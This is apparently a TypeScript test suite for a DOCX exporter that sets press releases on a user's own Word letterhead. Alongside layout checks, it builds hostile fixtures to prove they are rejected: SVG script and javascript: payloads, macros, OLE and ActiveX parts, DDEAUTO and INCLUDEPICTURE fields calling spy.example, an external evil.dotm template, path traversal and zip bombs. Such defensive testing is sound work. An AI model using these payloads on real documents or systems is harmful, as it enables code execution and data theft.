import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import {
  AlignmentType,
  Document,
  ExternalHyperlink,
  Footer,
  Header,
  ImageRun,
  LevelFormat,
  Packer,
  PageNumber,
  Paragraph,
  TextRun,
} from 'docx';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import mammoth from 'mammoth';
import { beforeAll, describe, expect, it } from 'vitest';
import { UserError } from '../../core/errors';
import { docxFormat } from '../../core/exports/docx/docx-format';
import { mutated, numbers } from '../support/mutated';
import { PIXEL } from '../support/pixel';
import { release } from '../support/release';
import { flowing, onDisk, output } from './support/programs';

const text = (words: string) => new Paragraph({ children: [new TextRun(words)] });

/** A letterhead as a press office has one: two headers, a logo, a style of its own for titles. */
async function letterhead(): Promise<Record<string, Uint8Array>> {
  const logo = new ImageRun({
    type: 'png',
    data: PIXEL,
    transformation: { width: 120, height: 40 },
    altText: { name: 'Logo', description: 'Our logo', title: '' },
  });
  const site = new ExternalHyperlink({
    link: 'https://example.org',
    children: [new TextRun('example.org')],
  });
  const document = new Document({
    styles: {
      default: { title: { run: { font: 'Garamond', size: 60, color: 'AA0000' } } },
      paragraphStyles: [
        { id: 'Fliesstext', name: 'Body Text', run: { font: 'Verdana', size: 19 } },
      ],
    },
    numbering: {
      config: [
        {
          reference: 'house',
          levels: [
            { level: 0, format: LevelFormat.DECIMAL, text: '§%1', alignment: AlignmentType.START },
          ],
        },
      ],
    },
    sections: [
      {
        properties: {
          titlePage: true,
          page: {
            size: { width: 12240, height: 15840 },
            margin: { top: 2880, left: 2160, right: 1440, bottom: 1440 },
          },
        },
        headers: {
          first: new Header({ children: [new Paragraph({ children: [logo, site] })] }),
          default: new Header({ children: [text('House of Example, continued')] }),
        },
        footers: {
          default: new Footer({
            children: [
              new Paragraph({ children: [new TextRun({ children: [PageNumber.CURRENT] })] }),
            ],
          }),
          first: new Footer({ children: [text('12 Example Street, Geneva')] }),
        },
        children: [
          text('Dear reader, this text of the template is not wanted.'),
          new Paragraph({ text: 'numbered', numbering: { reference: 'house', level: 0 } }),
        ],
      },
    ],
  });
  return unzipSync(new Uint8Array(await Packer.toArrayBuffer(document)));
}

const line = (words: string) => ({ type: 'paragraph' as const, children: [{ text: words }] });
const RELEASE = release(
  [
    { type: 'headline', children: [{ text: 'On our own paper' }] },
    { type: 'lede', children: [{ text: 'The lede.' }] },
    line('A paragraph.'),
    {
      type: 'list',
      ordered: true,
      children: [
        { type: 'list-item', children: [line('First')] },
        { type: 'list-item', children: [line('Second')] },
      ],
    },
  ],
  { language: 'fr' },
);
const context = { asset: () => undefined, typeset: async () => new Uint8Array() };

const onLetterhead = (parts: Record<string, Uint8Array>, options = {}) =>
  docxFormat.export(
    RELEASE,
    { ...context, letterhead: zipSync(parts) },
    { letterhead: 'own', ...options },
  );

describe('a release on the person’s own letterhead', () => {
  let theirs: Record<string, Uint8Array>;
  let bytes: Uint8Array;
  let parts: Record<string, Uint8Array>;
  const part = (name: string) => strFromU8(parts[name] ?? new Uint8Array());
  beforeAll(async () => {
    theirs = await letterhead();
    bytes = await onLetterhead(theirs);
    parts = unzipSync(bytes);
  });

  it('keeps its headers, footers, paper and margins, and none of its text', () => {
    const document = part('word/document.xml');
    expect(document).toContain('w:w="12240"');
    expect(document).toMatch(/<w:pgMar [^>]*w:left="2160"/);
    expect(document).toContain('<w:titlePg');
    expect(document.match(/<w:(header|footer)Reference /g)).toHaveLength(4);
    const words = output('unzip', '-p', onDisk(bytes, 'own.docx'), 'word/own-*.xml');
    for (const each of ['House of Example, continued', '12 Example Street, Geneva', 'Our logo']) {
      expect(words).toContain(each);
    }
    expect(Object.keys(parts).some((name) => name.startsWith('word/media/own'))).toBe(true);
    expect(strFromU8(bytes)).not.toContain('Dear reader');
    expect(document).not.toContain('Dear reader');
  });

  it('keeps its styles, finds them by name, and adds what it does not have', () => {
    const styles = part('word/styles.xml');
    expect(styles).toContain('Garamond');
    expect(styles.match(/<w:name w:val="Title"\/>/g)).toHaveLength(1);
    expect(styles.match(/<w:name w:val="Body Text"\/>/g)).toHaveLength(1);
    expect(styles).toContain('w:styleId="Lede"');
    expect(styles).toMatch(/w:styleId="Lede"[\s\S]*?<w:basedOn w:val="Fliesstext"\/>/);
    expect(part('word/document.xml')).toContain('<w:pStyle w:val="Fliesstext"/>');
    expect(styles).toMatch(/<w:docDefaults>[\s\S]*<w:lang [^>]*w:val="fr"/);
    const ids = [...styles.matchAll(/w:styleId="([^"]+)"/g)].map(([, id]) => id);
    expect(ids).toHaveLength(new Set(ids).size);
  });

  it('puts its headings into the outline, and no part of Word 2012 into its numbering', async () => {
    const theirNumbering = strFromU8(theirs['word/numbering.xml'] ?? new Uint8Array());
    const old = theirNumbering
      .replace(/ w15:\w+="[^"]*"/g, '')
      .replace(/ mc:Ignorable="[^"]*"/, '');
    const own = unzipSync(await onLetterhead({ ...theirs, 'word/numbering.xml': strToU8(old) }));
    const numbering = strFromU8(own['word/numbering.xml'] ?? new Uint8Array());
    const styles = part('word/styles.xml');
    const title = /<w:style [^>]*w:styleId="Title"[\s\S]*?<\/w:style>/.exec(styles)?.[0] ?? '';
    expect(title).toContain('Garamond');
    expect(title).toMatch(/<w:pPr>.*<w:outlineLvl w:val="0"\/><\/w:pPr>/s);
    expect(numbering).toContain('w:abstractNum');
    expect(numbering).not.toMatch(/ w15:\w+=/);
  });

  it('sets the line under a quotation as its quotations, and no bar beside the name alone', async () => {
    const quote = '<w:style w:type="paragraph" w:styleId="Zitat"><w:name w:val="Quote"/></w:style>';
    const styled = strFromU8(theirs['word/styles.xml'] ?? new Uint8Array());
    const own = unzipSync(
      await onLetterhead({
        ...theirs,
        'word/styles.xml': strToU8(styled.replace('</w:styles>', `${quote}</w:styles>`)),
      }),
    );
    const styles = strFromU8(own['word/styles.xml'] ?? new Uint8Array());
    const line = /<w:style [^>]*w:styleId="Attribution"[\s\S]*?<\/w:style>/.exec(styles)?.[0] ?? '';
    expect(line).toContain('<w:basedOn w:val="Zitat"/>');
    expect(line).not.toContain('<w:pBdr>');
  });

  it('says what a picture of the letterhead is where it says nothing, each under its own number', async () => {
    const [name = ''] = Object.keys(theirs).filter(
      (each) =>
        /word\/header\d+\.xml$/.test(each) &&
        strFromU8(theirs[each] ?? new Uint8Array()).includes('descr="Our logo"'),
    );
    const silent = strFromU8(theirs[name] ?? new Uint8Array()).replace('descr="Our logo"', '');
    const own = unzipSync(await onLetterhead({ ...theirs, [name]: strToU8(silent) }));
    const headers = Object.entries(own).filter(([each]) => each.startsWith('word/own-header'));
    const drawn = headers.map(([, xml]) => strFromU8(xml)).find((xml) => xml.includes('wp:docPr'));
    expect(drawn).toMatch(/<wp:docPr [^>]*descr="Logo"/);
    expect(part('word/own-header1.xml') + part('word/own-header2.xml')).toContain(
      'descr="Our logo"',
    );
  });

  it('counts its own lists apart from those of the letterhead', () => {
    const numbering = part('word/numbering.xml');
    expect(numbering).toContain('§%1');
    const known = new Set([...numbering.matchAll(/w:numId="(\d+)"/g)].map(([, id]) => id));
    const used = [...part('word/document.xml').matchAll(/<w:numId w:val="(\d+)"/g)];
    expect(used).toHaveLength(2);
    for (const [, id] of used) expect(known).toContain(id);
    expect(output('pandoc', '-f', 'docx', '-t', 'plain', onDisk(bytes, 'own.docx'))).toMatch(
      /1\.\s+First\s+2\.\s+Second/,
    );
  });

  it('is a whole package: every part has a type, every relationship a target', async () => {
    const types = part('[Content_Types].xml');
    for (const name of Object.keys(parts)) {
      const ending = name.slice(name.lastIndexOf('.') + 1);
      const isNamed =
        types.includes(`PartName="/${name}"`) || types.includes(`Extension="${ending}"`);
      expect(isNamed, name).toBe(true);
    }
    for (const [name, xml] of Object.entries(parts)) {
      if (!name.endsWith('.rels') || name === '_rels/.rels') continue;
      for (const [entry, target] of strFromU8(xml).matchAll(
        /<Relationship [^>]*?Target="([^"]+)"[^>]*>/g,
      )) {
        const folder = dirname(dirname(name));
        if (!entry.includes('External'))
          expect(parts, `${name}: ${target}`).toHaveProperty([join(folder, target ?? '')]);
      }
    }
    const { value } = await mammoth.extractRawText({ buffer: Buffer.from(bytes) });
    expect(flowing(value)).toContain(
      'Communiqué de presse On our own paper The lede. A paragraph. First Second',
    );
  });

  it('is opened by LibreOffice with its headers', () => {
    const folder = mkdtempSync(join(tmpdir(), 'dateline-office-'));
    writeFileSync(join(folder, 'own.docx'), bytes);
    output(
      'soffice',
      `-env:UserInstallation=file://${folder}/profile`,
      '--headless',
      '--convert-to',
      'pdf',
      '--outdir',
      folder,
      join(folder, 'own.docx'),
    );
    const words = flowing(output('pdftotext', join(folder, 'own.pdf'), '-'));
    expect(words).toMatch(/example\.org .*On our own paper.*The lede\..*12 Example Street/);
  });

  it('says draft at the head of every page, and is the same bytes each time', async () => {
    const drafted = await onLetterhead(theirs, { draft: true });
    const headers = output('unzip', '-p', onDisk(drafted, 'draft.docx'), 'word/own-header*.xml');
    // The line, and the shape behind the text, in each of the two.
    expect(headers.match(/<w:t[^>]*>PROJET – NE PAS DIFFUSER</g)).toHaveLength(2);
    expect(headers.match(/string="PROJET – NE PAS DIFFUSER"/g)).toHaveLength(2);
    const shapes = headers.match(/ id="PowerPlusWaterMarkObject\d+"/g);
    expect(new Set(shapes).size).toBe(2);
    expect(await onLetterhead(theirs, { draft: true })).toEqual(drafted);
    expect(await onLetterhead(theirs)).toEqual(bytes);
  });

  it('takes a template (.dotx) too', async () => {
    const types = strFromU8(theirs['[Content_Types].xml'] ?? new Uint8Array());
    const template = types.replace(
      'wordprocessingml.document.main',
      'wordprocessingml.template.main',
    );
    const made = unzipSync(
      await onLetterhead({ ...theirs, '[Content_Types].xml': strToU8(template) }),
    );
    expect(strFromU8(made['[Content_Types].xml'] ?? new Uint8Array())).not.toContain(
      'template.main',
    );
  });
});

// The header with the logo.
const HEADER = 'word/header2.xml';
const RELS = 'word/_rels/header2.xml.rels';
const changed = async (name: string, change: (xml: string) => string) => {
  const parts = await letterhead();
  return { ...parts, [name]: strToU8(change(strFromU8(parts[name] ?? new Uint8Array()))) };
};

/** A letterhead whose logo is that drawing. */
async function withDrawing(svg: string | Uint8Array): Promise<Record<string, Uint8Array>> {
  const parts = await changed(RELS, (xml) =>
    xml.replace(/Target="media[^"]*"/, 'Target="media/drawn.svg"'),
  );
  return { ...parts, 'word/media/drawn.svg': typeof svg === 'string' ? strToU8(svg) : svg };
}
const svg = (content: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${content}</svg>`;

describe('a drawing in a letterhead', () => {
  it('is taken over when it only draws', async () => {
    const drawing = svg(
      '<defs><linearGradient id="a"/><path id="p" d="M0 0h9"/></defs><style>.b{fill:url(#a)}</style><use xlink:href="#p" class="b"/><image href="data:image/png;base64,AAAA"/>',
    );
    const parts = unzipSync(await onLetterhead(await withDrawing(drawing)));
    const name = Object.keys(parts).find((each) => each.endsWith('.svg')) ?? '';
    expect(strFromU8(parts[name] ?? new Uint8Array())).toBe(drawing);
  });

  const utf16 = (text: string) => new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le'));
  it.each([
    ['a script', svg('<script>alert(1)</script>')],
    [
      'a script by another prefix',
      '<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></s:svg>',
    ],
    ['a script in an encoding that hides it', utf16(svg('<script>alert(1)</script>'))],
    ['a handler', svg('<g/>', 'onload="alert(1)"')],
    ['a link that runs', svg('<a href="java&#115;cript:alert(1)"><g/></a>')],
    ['a link that becomes one', svg('<a href="#x"><set attributeName="href" to="x:y"/></a>')],
    ['a picture from elsewhere', svg('<image xlink:href="http://spy.example/a.png"/>')],
    [
      'a drawing in it that could hold one',
      svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'),
    ],
    ['a style from elsewhere', svg('<style>@import "http://spy.example/a.css";</style>')],
    ['a fill from elsewhere', svg('<g style="fill:url(http://spy.example/a.svg#b)"/>')],
    ['a page', svg('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml"/></foreignObject>')],
    ['an entity', `<!DOCTYPE svg [<!ENTITY a "b">]>${svg('&a;')}`],
    ['no end', '<svg xmlns="http://www.w3.org/2000/svg"><g>'],
  ])('is refused in a sentence: %s', async (_, drawing) => {
    await expect(
      onLetterhead(await withDrawing(drawing)).then(({ length }) => length),
    ).rejects.toThrow('A picture in the letterhead cannot be used.');
  });
});

describe('what a letterhead has besides its pages', () => {
  const relationships = (...entries: string[]) =>
    strToU8(
      `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${entries.join('')}</Relationships>`,
    );
  const TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const MICROSOFT = 'http://schemas.microsoft.com/office/2006/relationships';

  /** As an attacker, or an old template of a house, brings it. */
  async function loaded(): Promise<Record<string, Uint8Array>> {
    const parts = await letterhead();
    const read = (name: string) => strFromU8(parts[name] ?? new Uint8Array());
    const own = read('word/_rels/document.xml.rels').replace(
      '</Relationships>',
      [
        `<Relationship Id="v1" Type="${MICROSOFT}/vbaProject" Target="vbaProject.bin"/>`,
        `<Relationship Id="o1" Type="${TYPE}/oleObject" Target="embeddings/oleObject1.bin"/>`,
        `<Relationship Id="x1" Type="${TYPE}/control" Target="activeX/activeX1.xml"/>`,
        `<Relationship Id="a1" Type="${TYPE}/aFChunk" Target="chunk.html"/>`,
        `<Relationship Id="f1" Type="${TYPE}/frame" TargetMode="External" Target="http://spy.example/frame"/>`,
        `<Relationship Id="s1" Type="${TYPE}/subDocument" TargetMode="External" Target="file:///c:/secret.docx"/>`,
        '</Relationships>',
      ].join(''),
    );
    return {
      ...parts,
      '[Content_Types].xml': strToU8(
        read('[Content_Types].xml')
          .replace(
            'vnd.openxmlformats-officedocument.wordprocessingml.document.main',
            'vnd.ms-word.template.macroEnabledTemplate.main',
          )
          .replace(
            '<Override',
            '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override',
          ),
      ),
      'word/_rels/document.xml.rels': strToU8(own),
      'word/vbaProject.bin': strToU8('SECRET macro'),
      'word/embeddings/oleObject1.bin': strToU8('SECRET object'),
      'word/activeX/activeX1.xml': strToU8('<x>SECRET control</x>'),
      'word/chunk.html': strToU8('<p>SECRET chunk</p>'),
      'customXml/item1.xml': strToU8('<x>SECRET data</x>'),
      'word/settings.xml': strToU8(
        read('word/settings.xml').replace(
          '</w:settings>',
          '<w:attachedTemplate r:id="t1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></w:settings>',
        ),
      ),
      'word/_rels/settings.xml.rels': relationships(
        `<Relationship Id="t1" Type="${TYPE}/attachedTemplate" TargetMode="External" Target="http://spy.example/evil.dotm"/>`,
      ),
    };
  }

  it('stays behind: macros, objects, controls, a template from elsewhere', async () => {
    const parts = unzipSync(await onLetterhead(await loaded()));
    const all = Object.entries(parts).map(([name, bytes]) => `${name}\n${strFromU8(bytes)}`);
    expect(all.join('\n')).not.toMatch(
      /SECRET|spy\.example|secret|vbaProject|macroEnabled|activeX|oleObject|attachedTemplate|aFChunk|customXml\/item/,
    );
    const external = all.join('\n').match(/<Relationship [^>]*TargetMode="External"[^>]*>/g) ?? [];
    expect(external).toHaveLength(1);
    expect(external[0]).toMatch(/relationships\/hyperlink" Target="https:\/\/example\.org/);
    // The letterhead itself is there.
    expect(all.join('\n')).toContain('House of Example, continued');
  });

  it('cannot lead out of the file', async () => {
    const climbing = await changed(RELS, (xml) =>
      xml.replace(/Target="media[^"]*"/, 'Target="../../../../etc/passwd.png"'),
    );
    await expect(onLetterhead(climbing).then(({ length }) => length)).rejects.toThrow(
      'A picture in the letterhead cannot be used.',
    );
    for (const name of ['word/../../x', '/etc/x', 'C:\\x', 'word\\..\\x']) {
      const named = { ...(await letterhead()), [name]: strToU8('x') };
      await expect(onLetterhead(named), name).rejects.toThrow('is damaged');
    }
  });

  it('is refused when it lies about its size', async () => {
    const packed = zipSync({
      ...(await letterhead()),
      'word/a.bin': new Uint8Array(30 * 1024 * 1024),
    });
    const lying = Buffer.from(packed);
    // The sizes stand before each name, in the entry itself and in the directory (APPNOTE 4.3).
    const size = Buffer.alloc(4);
    size.writeUInt32LE(30 * 1024 * 1024);
    const small = Buffer.alloc(4);
    small.writeUInt32LE(1000);
    let at = lying.indexOf(size);
    expect(at).toBeGreaterThan(0);
    for (; at >= 0; at = lying.indexOf(size)) small.copy(lying, at);
    const made = docxFormat.export(
      RELEASE,
      { ...context, letterhead: new Uint8Array(lying) },
      { letterhead: 'own' },
    );
    const outcome = await made.then(
      (bytes) => Object.keys(unzipSync(bytes)),
      (error: unknown) => String(error),
    );
    // Nothing more than the entry says is unpacked, and it is no part that is taken.
    if (typeof outcome === 'string') expect(outcome).toContain('is damaged');
    else expect(outcome).not.toContain('word/a.bin');
  });
});

const BEGIN = '<w:fldChar w:fldCharType="begin"/>';
const END = '<w:fldChar w:fldCharType="end"/>';
const instr = (text: string): string => `<w:r><w:instrText>${text}</w:instrText></w:r>`;
/** A field with its instruction in runs of their own. */
const field = (runs: string): string => `<w:p><w:r>${BEGIN}</w:r>${runs}<w:r>${END}</w:r></w:p>`;
const Z = 'xmlns:z="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const Z_BEGIN = '<z:fldChar z:fldCharType="begin"/>';

describe('a letterhead that is not one', () => {
  const cases: [string, () => Promise<Record<string, Uint8Array>>, string][] = [
    ['another ZIP', async () => ({ 'a.txt': strToU8('a') }), 'is not a Word document'],
    [
      'a document type that grows',
      () => changed(HEADER, (xml) => xml.replace('?>', '?><!DOCTYPE x [<!ENTITY a "b">]>')),
      'This letterhead is damaged.',
    ],
    [
      'a header that is not XML',
      () => changed(HEADER, () => '<w:hdr'),
      'This letterhead is damaged.',
    ],
    [
      'a linked picture',
      () =>
        changed(RELS, (xml) =>
          xml.replace(
            /Target="media[^"]*"/,
            'Target="http://spy.example/a.png" TargetMode="External"',
          ),
        ),
      'shows something that is not inside it',
    ],
    [
      'a link that runs',
      () => changed(RELS, (xml) => xml.replace('https://example.org', 'javascript:alert(1)')),
      'shows something that is not inside it',
    ],
    [
      'an embedded object',
      () => changed(RELS, (xml) => xml.replace('relationships/image', 'relationships/oleObject')),
      'contains something other than text and pictures (oleObject)',
    ],
    [
      'a field that starts a program',
      () =>
        changed(HEADER, (xml) =>
          xml.replace(
            '</w:hdr>',
            '<w:p><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO c:\\x</w:instrText></w:r></w:p></w:hdr>',
          ),
        ),
      'has a field that fetches or starts something',
    ],
    ...(
      [
        [
          'whose words are parts of fields of their own',
          field(instr('PAGE')) + field(instr('INCLUDE') + instr('PICTURE "http://spy.example"')),
        ],
        [
          'of another prefix',
          `<z:p ${Z}><z:r>${Z_BEGIN}<z:instrText>DDEAUTO</z:instrText></z:r></z:p>`,
        ],
        ['in one element', `<z:fldSimple ${Z} z:instr="INCLUDETEXT c:/x"/>`],
        ['that is deleted', `<w:p><w:r><w:delInstrText>DDEAUTO</w:delInstrText></w:r></w:p>`],
        ['that links to a file', field(instr('HYPERLINK "file:///c:/calc.exe"'))],
        ['that includes a file', field(instr('INCLUDE x.docx'))],
        ['within a field', `<w:p><w:r>${BEGIN}</w:r>${field(instr('QUOTE'))}</w:p>`],
      ] as const
    ).map(([what, xml]): (typeof cases)[number] => [
      `a field ${what}`,
      () => changed(HEADER, (header) => header.replace('</w:hdr>', `${xml}</w:hdr>`)),
      'has a field that fetches or starts something',
    ]),
    ...['o:href', 'src'].map((name): (typeof cases)[number] => [
      `a drawing that is fetched by ${name}`,
      () =>
        changed(HEADER, (header) =>
          header.replace(
            '</w:hdr>',
            `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"><v:imagedata ${name}="http://spy.example/a.png"/></v:shape></w:pict></w:r></w:p></w:hdr>`,
          ),
        ),
      'shows something that is not inside it',
    ]),
    [
      'tracked changes',
      () =>
        changed(HEADER, (header) =>
          header.replace(
            '</w:hdr>',
            '<w:p><w:del w:id="1" w:author="Jo"><w:r><w:delText>old</w:delText></w:r></w:del></w:p></w:hdr>',
          ),
        ),
      'has tracked changes',
    ],
    [
      'hidden text',
      () =>
        changed(HEADER, (header) =>
          header.replace(
            '</w:hdr>',
            '<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>secret</w:t></w:r></w:p></w:hdr>',
          ),
        ),
      'has hidden text',
    ],
    [
      'a name that leads out',
      async () => ({ ...(await letterhead()), '../x': strToU8('x') }),
      'is damaged',
    ],
    [
      'no pages',
      () => changed('word/document.xml', (xml) => xml.replace(/<w:sectPr[\s\S]*<\/w:sectPr>/, '')),
      'has no page that could be written on',
    ],
  ];

  it.each(cases)('is refused in a sentence: %s', async (_, parts, message) => {
    await expect(onLetterhead(await parts()).then(({ length }) => length)).rejects.toThrow(message);
  });

  it('is refused before it is unpacked when it would unpack to too much', async () => {
    const bomb = { ...(await letterhead()), 'word/a.bin': new Uint8Array(30 * 1024 * 1024) };
    await expect(onLetterhead(bomb)).rejects.toThrow('is larger than any letterhead needs to be');
    await expect(
      docxFormat.export(
        RELEASE,
        { ...context, letterhead: strToU8('hello') },
        { letterhead: 'own' },
      ),
    ).rejects.toThrow('is not a Word document');
    await expect(docxFormat.export(RELEASE, context, { letterhead: 'own' })).rejects.toThrow(
      'There is no Word letterhead yet.',
    );
  });
});

describe('a letterhead that was changed at random', () => {
  /** Fields that fetch or start something, however their letters are spread over elements. */
  const ACTIVE = /INCLUDE|DDE|IMPORT|LINK|EMBED|MACROBUTTON|spy\.example/;

  it('is taken or refused in a sentence, its parts and the file around them', async () => {
    const random = numbers(20261201);
    const parts = await letterhead();
    const names = Object.keys(parts).filter((name) => /\.(?:xml|rels)$/.test(name));
    const faults: string[] = [];
    for (let round = 0; round < 100; round += 1) {
      const name = names[Math.floor(random() * names.length)] ?? '';
      const isPart = random() < 0.8;
      const bytes = isPart
        ? zipSync({ ...parts, [name]: mutated(parts[name] ?? new Uint8Array(), random) })
        : mutated(zipSync(parts), random);
      const made = docxFormat.export(
        RELEASE,
        { ...context, letterhead: bytes },
        { letterhead: 'own' },
      );
      const fault = await made.then(
        () => null,
        (error: unknown) => (error instanceof UserError ? null : (error as Error).stack),
      );
      if (fault) faults.push(`${round} ${isPart ? name : 'file'}: ${fault}`);
    }
    expect(faults.slice(0, 3)).toEqual([]);
  });

  it('never brings a field that fetches or starts something, in whatever pieces it is written', async () => {
    const random = numbers(7);
    const fields = [
      'INCLUDEPICTURE "http://spy.example"',
      'INCLUDETEXT c:/x',
      'DDEAUTO cmd.exe',
      'IMPORT x.png',
      'LINK Excel.Sheet x',
      'EMBED Word.Document',
      'MACROBUTTON Run go',
      'HYPERLINK "http://spy.example"',
    ];
    for (let round = 0; round < 40; round += 1) {
      const instruction = fields[round % fields.length] ?? '';
      const xml = spread(instruction, random);
      const parts = await changed(HEADER, (header) => header.replace('</w:hdr>', `${xml}</w:hdr>`));
      const made = await onLetterhead(parts).catch((error: unknown) => {
        if (!(error instanceof UserError)) throw error;
        return null;
      });
      if (!made) continue;
      const text = Object.entries(unzipSync(made))
        .filter(([name]) => name.startsWith('word/header'))
        .map(([, bytes]) => strFromU8(bytes).replace(/<[^>]*>/g, ''))
        .join('');
      expect(text, xml).not.toMatch(ACTIVE);
    }
  });
});

/** A field with its instruction cut anywhere, under any prefix, in any of Word's elements for one. */
function spread(instruction: string, random: () => number): string {
  const pick = <T>(of: readonly T[]): T => of[Math.floor(random() * of.length)] as T;
  const prefix = pick(['w', 'z']);
  const element = pick(['instrText', 'delInstrText']);
  const space = prefix === 'z' ? ` ${Z}` : '';
  const quoted = instruction.replaceAll('"', '&quot;');
  if (random() < 0.2) return `<${prefix}:fldSimple${space} ${prefix}:instr="${quoted}"/>`;
  const pieces: string[] = [];
  for (let rest = instruction; rest !== ''; ) {
    const length = 1 + Math.floor(random() * rest.length);
    pieces.push(rest.slice(0, length).replaceAll('"', '&quot;'));
    rest = rest.slice(length);
  }
  const runs = pieces.map(
    (piece) => `<${prefix}:r><${prefix}:${element}>${piece}</${prefix}:${element}></${prefix}:r>`,
  );
  const around = random() < 0.3 ? `<w:r>${BEGIN}</w:r>${instr('PAGE')}<w:r>${END}</w:r>` : '';
  return `<${prefix}:p${space}>${prefix === 'w' ? around : ''}<${prefix}:r><${prefix}:fldChar ${prefix}:fldCharType="begin"/></${prefix}:r>${runs.join('')}<${prefix}:r><${prefix}:fldChar ${prefix}:fldCharType="end"/></${prefix}:r></${prefix}:p>`;
}
